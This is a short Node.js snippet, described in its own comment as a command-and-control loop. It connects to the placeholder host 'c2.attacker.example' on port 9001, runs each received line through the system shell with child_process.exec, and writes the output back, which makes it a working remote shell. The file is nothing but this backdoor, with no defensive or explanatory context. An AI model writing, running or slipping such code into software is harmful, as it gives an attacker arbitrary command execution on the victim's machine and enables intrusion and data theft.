// Command-and-control loop: every line received is run through the shell.
const net = require('net');
const cp = require('child_process');

const sock = net.createConnection({ host: 'c2.attacker.example', port: 9001 });
sock.on('data', (data) => {
  cp.exec(data.toString().trim(), (err, stdout, stderr) => {
    sock.write(stdout || stderr || (err && err.message) || '');
  });
});
